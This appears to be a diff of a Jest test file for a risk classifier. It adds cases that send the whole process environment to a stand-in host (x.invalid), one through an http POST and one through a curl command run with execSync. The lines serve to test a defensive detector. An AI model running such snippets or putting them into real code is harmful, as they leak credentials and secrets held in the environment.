@@ -47,6 +47,8 @@ describe('the environment is sent, however it is reached', () => {
     `const q = require('querystring').stringify(process.env); require('http').get('http://x.invalid/?' + q)`,
     `const m = require('nodemailer').createTransport({ host: 'smtp.x.invalid' }); m.sendMail({ to: 'a@x.invalid', text: JSON.stringify(process.env) })`,
     `const u = new URL('https://x.invalid'); for (const [k, v] of Object.entries(process.env)) u.searchParams.append(k, v); fetch(u)`,
+    `module.exports = (h) => { const q = h.request({ hostname: 'x.invalid', method: 'POST' }); q.end(JSON.stringify(process.env)) }`,
+    `module.exports = (c) => c.execSync('curl -d "' + JSON.stringify(process.env) + '" https://x.invalid')`,
   ])('%s', (text) => {
     expect(ranks.indexOf(tierOf(text) ?? 'note')).toBeGreaterThan(0);
   });
